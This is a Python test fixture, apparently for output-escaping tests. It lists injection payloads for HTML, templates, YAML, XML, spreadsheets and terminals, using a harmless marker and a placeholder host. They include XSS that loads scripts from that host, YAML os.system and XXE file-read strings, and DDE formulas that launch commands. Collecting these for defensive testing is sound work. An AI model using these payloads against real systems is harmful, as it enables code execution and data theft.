"""Text that does harm where it is taken for something else than text: what each is for, and the text.

``window.__ran`` is what a script would set, and ``http://away.invalid/`` where a request would go.
"""

_RUN = "window.__ran=1"
_AWAY = "http://away.invalid/"

PAYLOADS = {
    # A page
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<SCRIPT SRC={_AWAY}a.js></SCRIPT>",
    "end of a script": f"</script><script>{_RUN}</script>",
    "script in a comment": f"<!--<script>{_RUN}//-->",
    "half a script": f"<scr<script>ipt>{_RUN}</script>",
    "module": f"<script type=module>import '{_AWAY}m.js'</script>",
    "image": f"<img src=x onerror={_RUN}>",
    "image out of an attribute": f'"><img src=x onerror="{_RUN}">',
    "image out of single quotes": f"'><img src=x onerror='{_RUN}'>",
    "image away": f"<img src={_AWAY}i.png srcset='{_AWAY}j.png 2x'>",
    "attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "svg": f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg script": f"<svg><script>{_RUN}</script><use href='{_AWAY}u.svg#u'/></svg>",
    "math": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    "frame": f"<iframe srcdoc='<script>parent.{_RUN[7:]}</script>' src='{_AWAY}f.html'></iframe>",
    "object": f"<object data='{_AWAY}o.swf'></object><embed src='{_AWAY}e.swf'>",
    "style": f"<style>@import '{_AWAY}s.css';*{{background:url({_AWAY}b.png)}}</style>",
    "end of a style": "</style><style>*{display:none}",
    "style attribute": f"<b style='background:url({_AWAY}c.png);position:fixed;inset:0'>x</b>",
    "link": f"<link rel=stylesheet href={_AWAY}l.css><link rel=preload as=image href={_AWAY}p.png>",
    "base": f"<base href='{_AWAY}'>",
    "meta": f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    "form": f"<form action='{_AWAY}'><button autofocus>x</button></form>",
    "title": f"</title><img src=x onerror={_RUN}>",
    "textarea": f"</textarea></pre></code><img src=x onerror={_RUN}>",
    "template": f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    "video": f"<video src={_AWAY}v.mp4 autoplay onerror={_RUN}></video>",
    "details": f"<details open ontoggle={_RUN}>x</details>",
    "address of a script": f"javascript:{_RUN}",
    "link to a script": f"<a href='java\tscript:{_RUN}' ping={_AWAY}>x</a>",
    "data link": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==",
    "entities": "&lt;script&gt;&#x3c;b&#x3e;&amp;amp;&quot;&NotAnEntity;&#0;",
    "overlong": "\xbc\xbescript\xbe \uff1cscript\uff1e ‹script›",
    "comment": "--><!-- -- > <!- ]]> <![CDATA[ x ]]>",
    # JSON and scripts
    "json": '"}]}</script>\\u003c","x":{"__proto__":{"y":1}}',
    "line ends": "one\u2028two\u2029three",
    "backslashes": '\\\\" \\n \\x3c \\u003c \\',
    # Markdown and mathematics
    "markdown image": f"![x]({_AWAY}m.png)",
    "markdown link": f"[x](javascript:{_RUN}) <{_AWAY}> [y][z]\n\n[z]: {_AWAY}",
    "markdown": "# x\n* y\n> z\n```\n| a | b |\n|---|---|",
    "mathjax": "HK$100億，另撥HK$200億 $x^2$ \\(y\\) \\[z\\] $$w$$",
    "mathjax macro": "$\\href{javascript:window.__ran=1}{x}$ \\unicode{x3c} $\\frac{$",
    # Templates and formats
    "jinja": "{{ 7*7 }} {% for x in range(9) %}{{ config }}{% endfor %} {# x #}",
    "format": "{0} {value} {high.__class__} {} {{x}} {low!r:>99}",
    "percent": "%s %(x)s %n %d %%",
    "dollar": "${7*7} $(id) `id` #{7*7}",
    "yaml": "!!python/object/apply:os.system ['id']\n- &a [*a]\n<<: *a\n? x",
    "quotes": "'''\"\"\"'\"\nimport os; os.abort()  #",
    # XML
    "xml": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]><x>&y;</x>",
    "word": "<w:r><w:instrText>INCLUDETEXT /etc/hostname</w:instrText></w:r> {HYPERLINK}",
    "signs no xml can hold": "a\x01\x08\x0b\x0c\x0e\x1fb\ufffe\uffff",
    "escapes of a sheet": "_x0041_ _x000D_ _xFFFF_",
    # A spreadsheet
    "formula": "=cmd|' /C calc'!A0",
    "formula in a word": '=HYPERLINK("http://away.invalid/","x")',
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide formula": "＝1+1",
    "cells": 'x","=1+1";=1+1\t=1+1\n=1+1',
    "apostrophe": "'=1+1",
    # A terminal
    "colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H",
    "title of a window": "\x1b]0;owned\x07 \x1b]8;;http://away.invalid/\x1b\\x\x1b]8;;\x1b\\",
    "one sign for two": "\x9b31mred \x90x\x9c",
    "bell and back": "a\x07b\x08\x08c\x7fd",
    "over the line": "all is fine\rno",
    # Signs
    "bidi": "\u202egpj.exe\u202c \u2066x\u2069 \u200f",
    "nothing wide": "pa\u200bss\u200cwo\u200drd\u2060\ufeff",
    "tags": "x\U000e0041\U000e0042\U000e007f",
    "no sign": "\U0001ffff\U0010ffff\ufdd0",
    "marks": "Z" + "\u0301\u0489" * 40,
    "long": "長" * 300,
    "long word": "w" * 300,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "nul": "a\x00b",
    "separators": "a\x1cb\x1dc\x1ed\x85e",
}
